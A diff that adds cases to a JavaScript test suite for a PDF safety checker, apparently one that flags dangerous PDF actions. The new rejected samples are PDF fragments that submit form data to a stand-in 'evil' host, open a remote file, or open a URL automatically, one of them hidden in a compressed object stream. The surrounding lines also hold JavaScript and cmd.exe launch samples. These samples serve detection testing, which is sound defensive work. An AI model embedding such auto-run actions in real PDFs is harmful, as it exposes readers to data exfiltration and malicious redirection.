@@ -52,6 +52,10 @@ describe('a PDF', () => {
         ]),
       ),
     ],
+    [
+      'that opens at its first page',
+      pdf('<< /OpenAction [3 0 R /Fit] /A << /S /URI /URI (https://lab) >> >>'),
+    ],
     ['with noise in a stream', pdf(Buffer.concat([Buffer.from('stream\n'), Buffer.from('/JS (', 'latin1')]))],
   ])('%s is accepted', (_, content) => expect(pdfFault(content)).toBeNull());
 
@@ -61,6 +65,21 @@ describe('a PDF', () => {
     ['a compressed script', pdf(packed('<< /S /JavaScript /JS (app.alert(1)) >>'))],
     ['a compressed, encoded script', pdf(packed('<< /S /#4aavaScript >>'))],
     ['a program launch', pdf('<< /S /Launch /F (cmd.exe) >>')],
+    ['a form that is sent', pdf('<< /OpenAction << /S /SubmitForm /F (https://evil) >> >>')],
+    ['another file that opens', pdf('<< /OpenAction << /S /GoToR /F (//evil/a.pdf) >> >>')],
+    ['an address that opens by itself', pdf('<< /OpenAction << /S /URI /URI (https://evil) >> >>')],
+    [
+      'an address that opens by itself, in two parts',
+      pdf(
+        Buffer.concat([
+          Buffer.from('<< /AA << /O 5 0 R >> >>'),
+          stream(
+            '/Type/ObjStm/N 1/First 4/Filter/FlateDecode',
+            deflateSync('<< /S /URI /URI (https://evil) >>'),
+          ),
+        ]),
+      ),
+    ],
     ['a file', pdf('<< /Names << /EmbeddedFiles 3 0 R >> >>')],
     [
       'compressed objects that cannot be decompressed',
